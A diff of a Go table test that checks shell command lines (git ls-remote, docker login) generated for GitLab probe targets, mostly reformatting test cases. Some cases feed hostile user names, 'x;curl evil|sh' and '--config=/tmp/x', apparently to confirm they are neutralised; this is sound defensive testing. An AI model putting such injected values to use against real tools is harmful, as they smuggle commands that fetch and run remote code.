@@ -17,10 +17,16 @@ func TestTheLineOfAPurposeIsFilledInForTheShell(t *testing.T) {
 		target   gitlab.ProbeTarget
 		want     string
 	}{
-		{"nothing is known of the project", "clone", own, gitlab.ProbeTarget{}, "git ls-remote " +
-			"https://gitlab.example.com:8443/git/GROUP/PROJECT.git HEAD"},
-		{"a project", "clone", own, gitlab.ProbeTarget{Project: "team/sub/app"}, "git ls-remote " +
-			"https://gitlab.example.com:8443/git/team/sub/app.git HEAD"},
+		{
+			"nothing is known of the project", "clone", own,
+			gitlab.ProbeTarget{},
+			"git ls-remote https://gitlab.example.com:8443/git/GROUP/PROJECT.git HEAD",
+		},
+		{
+			"a project", "clone", own,
+			gitlab.ProbeTarget{Project: "team/sub/app"},
+			"git ls-remote https://gitlab.example.com:8443/git/team/sub/app.git HEAD",
+		},
 		{
 			"a project in an address of the API", "install-packages", own,
 			gitlab.ProbeTarget{Project: "team/app"},
@@ -32,8 +38,11 @@ func TestTheLineOfAPurposeIsFilledInForTheShell(t *testing.T) {
 			gitlab.ProbeTarget{Username: "pat"},
 			"docker login registry.gitlab.com -u pat --password-stdin",
 		},
-		{"a registry that nobody named", "pull-images", own, gitlab.ProbeTarget{Username: "pat"}, "docker login REGISTRY " +
-			"-u pat"},
+		{
+			"a registry that nobody named", "pull-images", own,
+			gitlab.ProbeTarget{Username: "pat"},
+			"docker login REGISTRY -u pat",
+		},
 		{
 			"a user name that would be a command", "pull-images", own,
 			gitlab.ProbeTarget{Username: "x;curl evil|sh"},
@@ -44,8 +53,11 @@ func TestTheLineOfAPurposeIsFilledInForTheShell(t *testing.T) {
 			gitlab.ProbeTarget{Username: "--config=/tmp/x"},
 			"-u USER --password-stdin",
 		},
-		{"a name without port and path", "pull-proxy", own, gitlab.ProbeTarget{Username: "pat"}, "docker login " +
-			"gitlab.example.com -u pat"},
+		{
+			"a name without port and path", "pull-proxy", own,
+			gitlab.ProbeTarget{Username: "pat"},
+			"docker login gitlab.example.com -u pat",
+		},
 		{"a host that is no import path", "go-modules", own, gitlab.ProbeTarget{}, ""},
 		{
 			"a host that is one", "go-modules",
